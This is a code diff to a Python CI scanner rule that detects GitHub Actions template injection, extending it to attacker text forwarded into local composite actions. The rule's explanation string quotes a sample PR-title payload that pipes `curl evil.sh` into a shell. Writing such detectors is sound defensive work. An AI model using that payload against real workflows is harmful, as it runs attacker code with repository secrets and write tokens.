@@ -4,14 +4,17 @@ from __future__ import annotations
 
 from collections.abc import Iterator
 from dataclasses import dataclass
+from pathlib import PurePosixPath
 
 from aisec_ci.findings import Finding
 from aisec_ci.rules import Rule
+from aisec_ci.scanners.base import SkipFile
 from aisec_ci.scanners.workflows.contexts import Tier, classify, output_tier
 from aisec_ci.scanners.workflows.expressions import find_expressions
-from aisec_ci.scanners.workflows.loader import Node
+from aisec_ci.scanners.workflows.loader import Node, load_yaml
 from aisec_ci.scanners.workflows.model import PULL_REQUEST_TRIGGERS, Step, WorkflowDoc
 from aisec_ci.severity import Severity
+from aisec_ci.workspace.reading import UnreadableFile, read_bounded_text
 
 TEMPLATE_INJECTION = Rule(
     id="workflows/template-injection",
@@ -25,7 +28,8 @@ TEMPLATE_INJECTION = Rule(
     "choose: tag and branch names, and `inputs.*` of `workflow_dispatch`, `workflow_call` and composite "
     "actions. Values reached through `env.*` are followed, and so are the outputs of actions that copy "
     "pull request file or branch names (the file lists of `tj-actions/changed-files` or `dorny/paths-filter`, "
-    "not their `true`/`false` flags or counts; `docker/metadata-action` labels but not its tags or version).",
+    "not their `true`/`false` flags or counts; `docker/metadata-action` labels but not its tags or version). Attacker text passed in `with:` to a local "
+    "composite action that expands that input in its script is reported at the caller.",
     why="GitHub substitutes the expression into the script text before the shell or Node runs it, so a PR "
     'titled `x"; curl evil.sh | sh; echo "` becomes part of the command. Under `pull_request_target`, '
     "`issue_comment` or `workflow_run` the script runs with the repository's secrets and a write token: "
@@ -91,6 +95,88 @@ def check(doc: WorkflowDoc) -> Iterator[Finding]:
                     line = sink.line + nl
                     column = sink.column + pos if nl == 0 else pos - raw.rfind("\n", 0, pos)
                 yield _finding(doc, step, sink, what, expr.body, worst, line, column)
+        yield from _forwarded_to_local_action(doc, step)
+
+
+# A composite action reports its own `inputs.*` as low (callers set them); a caller in the same
+# repository that passes pull request text into such an input is where the injection is decided.
+_ACTION_FILE_LIMIT = 1 << 20
+
+
+def _forwarded_to_local_action(doc: WorkflowDoc, step: Step) -> Iterator[Finding]:
+    uses = step.uses
+    with_ = step.with_
+    if uses is None or uses.kind != "local" or with_ is None or not with_.is_map:
+        return
+    expanded: set[str] | None = None
+    for name, _, value in with_.entries():
+        if not value.is_scalar:
+            continue
+        for expr in find_expressions(value.value):
+            taint = next(
+                (t for ref in expr.refs if (t := _taint(doc, step, ref, 0)) is not None and t.tier is Tier.ATTACKER),
+                None,
+            )
+            if taint is None:
+                continue
+            if expanded is None:
+                expanded = _inputs_expanded_by(doc, uses.path)
+            if name.lower() not in expanded:
+                break
+            yield doc.finding(
+                TEMPLATE_INJECTION,
+                value,
+                f"`${{{{ {expr.body} }}}}` is passed as input `{name}` of the local action `{uses.path}` in step "
+                f"'{step.name}', whose script expands `inputs.{name}`: it reads `{taint.ref}`, text anyone who "
+                "opens an issue or pull request can write"
+                + (
+                    f"; this workflow runs with secrets and a write token ({', '.join(doc.privileged_triggers)})"
+                    if doc.privileged_triggers
+                    else ""
+                )
+                + ". Pass it to the action through an environment variable it reads instead.",
+                severity=_severity(doc, taint),
+                key=f"{doc.step_key(step)}:with:{name}:{expr.body}",
+                properties={"context": taint.ref, "via": f"{uses.path} input {name}", "tier": "attacker"},
+            )
+            break
+
+
+def _inputs_expanded_by(doc: WorkflowDoc, action_path: str) -> set[str]:
+    """Lower-case names of the inputs a local composite action pastes into its scripts."""
+    rel = PurePosixPath(doc.file.path)
+    root = doc.file.abspath.parents[len(rel.parts) - 1] if len(rel.parts) >= 1 else doc.file.abspath.parent
+    target = (root / action_path).resolve()
+    if not target.is_relative_to(root.resolve()):
+        return set()
+    for name in ("action.yml", "action.yaml"):
+        try:
+            node = load_yaml(read_bounded_text(target / name, _ACTION_FILE_LIMIT))
+        except (UnreadableFile, SkipFile, OSError):
+            continue
+        runs = node.get("runs") if node is not None and node.is_map else None
+        steps = runs.get("steps") if runs is not None and runs.is_map else None
+        if steps is None or not steps.is_seq:
+            return set()
+        out: set[str] = set()
+        for item in steps.items:
+            if not item.is_map:
+                continue
+            scripts = [item.get("run")]
+            uses_text = item.text("uses") or ""
+            with_node = item.get("with")
+            for slug, keys in _CODE_INPUTS.items():
+                if uses_text.lower().startswith(slug + "@") and with_node is not None and with_node.is_map:
+                    scripts += [with_node.get(k) for k in keys]
+            for script in scripts:
+                if script is None or not script.is_scalar:
+                    continue
+                for expr in find_expressions(script.value):
+                    out.update(
+                        ref.split(".")[1] for ref in expr.refs if ref.startswith("inputs.") and ref.count(".") >= 1
+                    )
+        return out
+    return set()
 
 
 def _sinks(step: Step) -> list[tuple[Node, str]]:
